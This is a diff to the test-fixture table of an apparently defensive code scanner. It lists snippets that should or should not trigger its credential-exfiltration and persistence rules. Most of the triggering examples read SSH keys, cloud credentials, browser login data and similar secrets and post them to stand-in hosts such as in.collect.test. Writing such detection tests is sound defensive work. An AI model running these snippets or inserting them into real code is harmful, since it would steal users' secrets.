@@ -78,27 +78,27 @@ EXAMPLES: Mapping[str, tuple[Example, ...]] = MappingProxyType(
             *_fires(
                 _CRITICAL,
                 'import os, requests\nrequests.post("https://in.collect.test", json=dict(os.environ))\n',
-                'import requests\nkey = open("/root/.ssh/id_rsa").read()\nrequests.post("https://in.collect.test", data=key)\n',
+                'import requests\nkey = open("/home/ana/.ssh/id_rsa").read()\nrequests.post("https://in.collect.test", data=key)\n',
                 'from pathlib import Path\nimport socket\ns = socket.create_connection(("203.0.113.9", 9))\n'
                 's.sendall((Path.home() / ".aws/credentials").read_bytes())\n',
-                'import paramiko\nc = paramiko.SSHClient()\nc.connect("in.collect.test")\nc.open_sftp().put("/root/.ssh/id_rsa", "k")\n',
-                'import boto3\nboto3.client("s3").upload_file("/root/.kube/config", "drop", "k")\n',
+                'import paramiko\nc = paramiko.SSHClient()\nc.connect("in.collect.test")\nc.open_sftp().put("/home/ana/.ssh/id_rsa", "k")\n',
+                'import boto3\nboto3.client("s3").upload_file("/home/ana/.kube/config", "drop", "k")\n',
                 'import keyring, requests\nrequests.post("https://in.collect.test", data=keyring.get_password("a", "b"))\n',
-                'import shutil, requests\nshutil.make_archive("/tmp/a", "zip", "/root/.ssh")\n'
+                'import shutil, requests\nshutil.make_archive("/tmp/a", "zip", "/home/ana/.ssh")\n'
                 'requests.post("https://in.collect.test", files={"f": open("/tmp/a.zip", "rb")})\n',
-                'import tarfile, io, requests\nb = io.BytesIO()\nt = tarfile.open(fileobj=b, mode="w")\nt.add("/root/.gnupg")\n'
+                'import tarfile, io, requests\nb = io.BytesIO()\nt = tarfile.open(fileobj=b, mode="w")\nt.add("/home/ana/.gnupg")\n'
                 't.close()\nrequests.post("https://in.collect.test", data=b.getvalue())\n',
                 'import sqlite3, requests\nc = sqlite3.connect("/home/a/.config/google-chrome/Default/Login Data")\n'
                 'rows = c.execute("select * from logins").fetchall()\nrequests.post("https://in.collect.test", json=rows)\n',
-                'import configparser, requests\nc = configparser.ConfigParser()\nc.read("/root/.aws/credentials")\n'
+                'import configparser, requests\nc = configparser.ConfigParser()\nc.read("/home/ana/.aws/credentials")\n'
                 'requests.post("https://in.collect.test", json=c["default"]["aws_secret_access_key"])\n',
-                'import shutil, requests\nshutil.copy("/root/.netrc", "/tmp/n")\nrequests.post("https://in.collect.test", data=open("/tmp/n"))\n',
+                'import shutil, requests\nshutil.copy("/home/ana/.netrc", "/tmp/n")\nrequests.post("https://in.collect.test", data=open("/tmp/n"))\n',
             ),
             *_silent(
                 'import os, requests\nh = {"Authorization": "Bearer " + os.environ["API_KEY"]}\n'
                 'requests.post("https://api.service.test/v1", headers=h, json={"q": 1})\n',
                 'import os, subprocess\nsubprocess.run(["make"], env=dict(os.environ, DEBUG="1"))\n',
-                'import os\nprint(os.path.exists("/root/.ssh/id_rsa"))\n',
+                'import os\nprint(os.path.exists("/home/ana/.ssh/id_rsa"))\n',
                 'import requests\nrequests.post("https://in.collect.test", json={"path": "~/.ssh/id_rsa"})\n',
             ),
         ),
@@ -213,7 +213,7 @@ EXAMPLES: Mapping[str, tuple[Example, ...]] = MappingProxyType(
                 'import site\nopen(site.getsitepackages()[0] + "/a.pth", "w").write("import os")\n',
             ),
             *_fires(_MEDIUM, 'open(".git/hooks/pre-commit", "w").write("ruff check")\n'),
-            *_silent('open("out.txt", "w").write("x")\n', 'print(open("/root/.bashrc").read())\n'),
+            *_silent('open("out.txt", "w").write("x")\n', 'print(open("/home/ana/.bashrc").read())\n'),
         ),
         "SKS-DESTRUCT": (
             *_fires(
